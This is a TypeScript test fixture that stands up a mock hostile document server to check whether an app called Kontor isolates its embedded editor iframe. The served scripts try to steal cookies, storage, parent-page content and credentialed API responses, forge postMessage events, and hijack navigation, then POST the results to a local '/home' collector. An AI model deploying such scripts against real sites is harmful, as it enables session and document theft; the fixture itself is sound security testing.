import { EventEmitter, once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What a hostile script brought home, by the name of the attempt; what failed is there as `denied: …`. */
export type Loot = Readonly<Record<string, string>>;

/**
 * A Document Server in enemy hands. It answers Kontor as a healthy one does, and its `api.js` tries whatever a
 * script could try to get at more than the document it was given. What it finds is sent home.
 */
export class HostileDocumentServer {
  readonly #server: Server;
  readonly #loot: Record<string, string> = {};
  readonly #arrivals = new EventEmitter();
  /** Addresses that browsers came to, and whether they brought a cookie. */
  readonly visits: { readonly path: string; readonly hasCookie: boolean }[] = [];
  /** The main address of Kontor, known once it runs. */
  target = '';
  /** Events that its script forges, each so often. */
  forged: { readonly events: readonly object[]; readonly times: number } = { events: [], times: 0 };

  private constructor() {
    this.#server = createServer((request, response) => void this.#answer(request, response));
  }

  static async start(): Promise<HostileDocumentServer> {
    const hostile = new HostileDocumentServer();
    await new Promise<void>((resolve) => hostile.#server.listen(0, '127.0.0.1', resolve));
    return hostile;
  }

  /** As browsers know it: by a name that is its alone, since cookies know no ports. */
  get url(): string {
    return this.internalUrl.replace('127.0.0.1', 'docs.localhost');
  }

  get internalUrl(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** All that was brought home, once it holds this. */
  async lootWith(name: string): Promise<Loot> {
    while (!(name in this.#loot)) await once(this.#arrivals, 'loot');
    return this.#loot;
  }

  /** For the next opening. */
  forget(): void {
    for (const name of Object.keys(this.#loot)) delete this.#loot[name];
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { pathname } = new URL(request.url ?? '/', this.url);
    this.visits.push({ path: pathname, hasCookie: request.headers.cookie !== undefined });
    const body = await textOf(request);
    // Whatever it gets, it takes: nothing here keeps other pages out.
    response.setHeader('access-control-allow-origin', '*');
    if (pathname === '/home') {
      Object.assign(this.#loot, JSON.parse(body) as Loot);
      this.#arrivals.emit('loot');
    }
    const page = this.#pages()[pathname];
    if (page !== undefined) response.setHeader('content-type', page.type).end(page.body);
    else response.setHeader('content-type', 'text/plain').end('true');
  }

  #pages(): Record<string, { type: string; body: string }> {
    const { target, url: home, forged } = this;
    const values = JSON.stringify({ target, home, forged });
    const script = { type: 'text/javascript' };
    const html = { type: 'text/html' };
    return {
      '/command': { type: 'application/json', body: '{"error":0,"version":"9.3.0"}' },
      '/web-apps/apps/api/documents/api.js': {
        ...script,
        body: `(${inThePage.toString()})(${values})`,
      },
      '/frame': { ...html, body: `<script>(${inItsFrame.toString()})(${values})</script>` },
      '/popup': { ...html, body: `<script>(${inItsWindow.toString()})(${values})</script>` },
      '/evil': { ...html, body: '<title>evil</title>' },
    };
  }
}

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString();
}

interface Places {
  readonly target: string;
  readonly home: string;
  readonly forged: HostileDocumentServer['forged'];
}

/* The functions below run in the browser, as text: each stands for itself. */

/** Runs where `api.js` runs. */
function inThePage({ target, home, forged }: Places): void {
  const heard: unknown[] = [];
  addEventListener('message', ({ data }) => heard.push(data));
  const channel = new BroadcastChannel('kontor');
  channel.addEventListener('message', ({ data }) => heard.push(data));

  const attempts: Record<string, () => unknown> = {
    fetchMain: async () =>
      (await fetch(`${target}/api/documents`, { credentials: 'include' })).text(),
    fetchOwn: async () => (await fetch('/api/documents', { credentials: 'include' })).text(),
    fetchByParent: async () => (await parent.fetch('/api/documents')).text(),
    tabKeyByParent: async () => (await parent.fetch('/api/me/tab-key', { method: 'POST' })).status,
    cookies: () => document.cookie,
    parentCookies: () => parent.document.cookie,
    parentPage: () => parent.document.body.innerHTML,
    topPage: () => top!.document.title,
    parentAddress: () => parent.location.href,
    frameElement: () => String(frameElement && frameElement.outerHTML),
    opener: () => String(opener),
    parentOpener: () => String(parent.opener.location.href),
    storage: () => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
    parentStorage: () =>
      JSON.stringify([Object.entries(parent.sessionStorage), Object.entries(parent.localStorage)]),
    databases: async () => JSON.stringify(await indexedDB.databases()),
    caches: async () => JSON.stringify(await caches.keys()),
    serviceWorker: async () =>
      (await navigator.serviceWorker.register('/assets/desk/editor-frame.js')).scope,
    worker: async () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("works")'])));
        worker.addEventListener('message', ({ data }) => resolve(data));
        worker.addEventListener('error', () => reject(new Error('refused')));
      }),
    ourPageInAFrame: () =>
      new Promise((resolve, reject) => {
        const frame = document.createElement('iframe');
        frame.addEventListener('load', () => {
          void Promise.resolve()
            .then(() => frame.contentDocument!.body.innerHTML || 'empty')
            .then(resolve, reject);
        });
        frame.src = `${target}/documents`;
        document.body.append(frame);
      }),
    scriptOfMain: () =>
      new Promise((resolve, reject) => {
        const script = document.createElement('script');
        script.addEventListener('load', () => resolve('loaded'));
        script.addEventListener('error', () => reject(new Error('refused')));
        script.src = `${target}/api/me`;
        document.head.append(script);
      }),
    askForSecrets: () => {
      for (const type of ['open', 'unlock', 'secret', 'key', 'event', 'ready'])
        for (const protocol of ['kontor-editor-frame/1', undefined])
          parent.postMessage(
            { protocol, type, event: { name: 'onRequestSecret' }, key: true, secret: true },
            '*',
          );
      return 'asked';
    },
    forgeEvents: () => {
      const protocol = 'kontor-editor-frame/1';
      for (let time = 0; time < forged.times; time++) {
        parent.postMessage({ protocol, type: 'ready' }, '*');
        for (const event of forged.events)
          parent.postMessage({ protocol, type: 'event', event }, '*');
      }
      return 'sent';
    },
    navigateTop: () => {
      top!.location.href = `${home}/evil`;
      return 'navigated';
    },
    navigateTopByLink: () => {
      const link = document.createElement('a');
      link.target = '_top';
      link.href = `${home}/evil`;
      document.body.append(link);
      link.click();
      return 'clicked';
    },
    navigateTopByName: () => {
      window.open(`${home}/evil`, '_top');
      return 'opened';
    },
  };

  const attempt = async (name: string): Promise<[string, string]> => {
    try {
      return [name, String(await attempts[name]!())];
    } catch (error) {
      return [name, `denied: ${(error as Error).name}`];
    }
  };

  const takeHome = (loot: Record<string, string>): void => {
    // No policy forbids to leave a frame of one's own: what was found leaves by its address' messages.
    frame.contentWindow!.postMessage({ loot }, '*');
  };
  const frame = document.createElement('iframe');

  let isTried = false;
  class DocEditor {
    constructor(place: string, config: object) {
      if (isTried) return;
      isTried = true;
      frame.src = `${home}/frame`;
      document.getElementById(place)!.replaceWith(frame);
      frame.addEventListener('load', () => {
        void Promise.all(Object.keys(attempts).map(attempt)).then((found) => {
          setTimeout(() => {
            const messages = JSON.stringify(heard);
            takeHome({ ...Object.fromEntries(found), config: JSON.stringify(config), messages });
          }, 500);
        });
      });
    }
  }
  Object.assign(window, { DocsAPI: { DocEditor } });
}

/** Runs in the Document Server's own frame, where no policy of ours is in force. */
function inItsFrame({ target, home }: Places): void {
  const send = (loot: object): Promise<Response> =>
    fetch(`${home}/home`, { method: 'POST', body: JSON.stringify(loot) });
  const denied = (error: unknown): string => `denied: ${(error as Error).name}`;

  addEventListener('message', ({ data }: MessageEvent<{ loot?: object } | null>) => {
    if (data?.loot === undefined) return;
    void fetch(`${target}/api/documents`, { credentials: 'include' })
      .then((answer) => answer.text(), denied)
      .then((fetchFromFrame) => send({ ...data.loot, fetchFromFrame }));
  });

  document.addEventListener('click', () => {
    const clicked: Record<string, string> = {};
    try {
      top!.location.href = `${home}/evil`;
      clicked.clickedTop = 'navigated';
    } catch (error) {
      clicked.clickedTop = denied(error);
    }
    try {
      parent.location.href = `${home}/evil`;
      clicked.clickedParent = 'navigated';
    } catch (error) {
      clicked.clickedParent = denied(error);
    }
    clicked.popup = window.open(`${home}/popup`) === null ? 'no handle' : 'a handle';
    void send(clicked);
  });
}

/** Runs in a window that the frame opened after a click. */
function inItsWindow({ target, home }: Places): void {
  const found: Record<string, string> = { popupOpener: String(opener) };
  try {
    opener.top.location.href = `${home}/evil`;
    found.popupNavigatesTop = 'navigated';
  } catch (error) {
    found.popupNavigatesTop = `denied: ${(error as Error).name}`;
  }
  const read = (path: string, init: RequestInit): Promise<string> =>
    fetch(`${target}${path}`, { credentials: 'include', ...init }).then(
      (answer) => answer.text(),
      (error: Error) => `denied: ${error.name}`,
    );
  void Promise.all([
    read('/api/documents', {}),
    read('/logout', { method: 'POST', mode: 'no-cors' }),
  ]).then(([popupDocuments]) =>
    fetch(`${home}/home`, {
      method: 'POST',
      body: JSON.stringify({ ...found, popupDocuments, popupDone: 'yes' }),
    }),
  );
}
